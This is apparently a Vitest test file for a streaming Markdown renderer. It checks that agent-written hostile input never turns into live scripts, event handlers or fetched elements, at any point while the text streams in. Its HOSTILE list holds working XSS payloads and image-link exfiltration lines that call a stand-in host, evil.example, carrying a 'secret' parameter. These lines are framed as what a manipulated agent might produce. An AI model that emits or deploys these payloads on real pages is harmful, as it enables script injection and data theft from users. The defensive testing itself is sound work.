import "./support/dom.ts";
import { cleanup, render } from "@testing-library/react";
import { afterEach, expect, test } from "vitest";
import { virtualClock } from "@throughline/testing";
import { ClockContext } from "../src/hooks/clock.ts";
import { Markdown } from "../src/markdown/index.ts";

/** What an agent may have been talked into writing. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe src=https://evil.example></iframe>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](data:text/html,<script>alert(1)</script>)",
  "[x](vbscript:x)",
  "<javascript:alert(1)>",
  "![out](https://evil.example/?secret=1)",
  "![out][1]\n\n[1]: https://evil.example/?secret=1",
  "[![out](https://evil.example/?secret=1)](https://ok.example)",
  "| a | b |\n| - | - |\n| <b onclick=x>1</b> | ![o](https://evil.example/p.png) |",
  '<svg><style>@import "https://evil.example"</style></svg>',
  "[^1]\n\n[^1]: ![out](https://evil.example/?secret=1)",
];

const LINKS = /^(https?:|mailto:)/;

afterEach(cleanup);

function problemsIn(root: Element): readonly string[] {
  return [...root.querySelectorAll("*")].flatMap((element) => {
    const name = element.localName;
    const bad = [...element.attributes].filter(({ name: attribute, value }) => {
      if (attribute.startsWith("on")) return true;
      if (["src", "srcset", "srcdoc", "style", "action", "background", "xlink:href"].includes(attribute)) return true;
      return attribute === "href" && !LINKS.test(value) && !value.startsWith("#");
    });
    const isFetched = ["script", "img", "iframe", "svg", "style", "object", "embed", "link", "form"].includes(name);
    return [...(isFetched ? [name] : []), ...bad.map((attribute) => `${name} ${attribute.name}=${attribute.value}`)];
  });
}

test.each(HOSTILE)("%j does nothing, wherever it is cut while it is written", (text) => {
  const whole = `Before **it**\n\n${text}\n\nAfter`;
  // On a clock that stands still no text takes long to draw: every cut is drawn.
  const clock = virtualClock();
  const show = (shownText: string, isOpen: boolean) => (
    <ClockContext value={clock}>
      <Markdown text={shownText} isOpen={isOpen} />
    </ClockContext>
  );
  const shown = render(show("", true));
  for (let end = 1; end <= whole.length; end += 1) {
    shown.rerender(show(whole.slice(0, end), true));
    expect(problemsIn(shown.container)).toEqual([]);
  }
  shown.rerender(show(whole, false));
  expect(problemsIn(shown.container)).toEqual([]);
  expect(shown.container.textContent).toContain("After");
});

test("what Markdown is for is shown: links in a new tab, tables in a box, code that can be copied", () => {
  const text = "# Title\n\n[a](https://a.example) **b**\n\n| h |\n| - |\n| 1 |\n\n```js\nx\n```\n\n- [x] done";
  const { container } = render(<Markdown text={text} />);
  expect(container.querySelector("h2")?.textContent).toBe("Title");
  expect(container.querySelector("a")?.rel).toBe("noopener noreferrer nofollow");
  expect(container.querySelector(".scroll table td")?.textContent).toBe("1");
  expect(container.querySelector("pre code")?.textContent).toBe("x\n");
  expect(container.querySelector("li")?.textContent).toContain("☑");
});
